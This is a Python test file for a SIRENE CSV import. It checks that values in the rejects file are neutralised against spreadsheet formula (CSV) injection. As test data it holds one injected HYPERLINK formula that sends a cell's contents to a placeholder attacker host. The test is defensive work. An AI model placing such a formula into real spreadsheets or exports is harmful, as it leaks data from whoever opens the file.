"""Every import's rejects file is opened in a spreadsheet by whoever fixes the source file:
what the file said comes back as text, never as a formula (CSV injection)."""

import pytest

from tests.imports.helpers import import_sirene, read_rejects, real_rows, variant, write_csv

pytestmark = pytest.mark.usefixtures("referential")

FORMULA = '=HYPERLINK("http://attaquant.example/?"&A1;"Cliquez")'


def test_sirene_rejects_file_neutralises_a_formula_in_a_rejected_value(tmp_path):
    rows = real_rows()
    path = write_csv(tmp_path / "stock.csv", [*rows, variant(rows[3], 301, siret=FORMULA)])
    rejects = tmp_path / "rejets.csv"
    import_sirene(path, "--wet-run", rejects=rejects)
    (rejected,) = [r for r in read_rejects(rejects) if r["siret"].lstrip("'").startswith("=")]
    assert rejected["siret"] == "'" + FORMULA
    # Plain negative numbers and codes stay as they were written.
    assert all(not r["line"].startswith("'") for r in read_rejects(rejects))
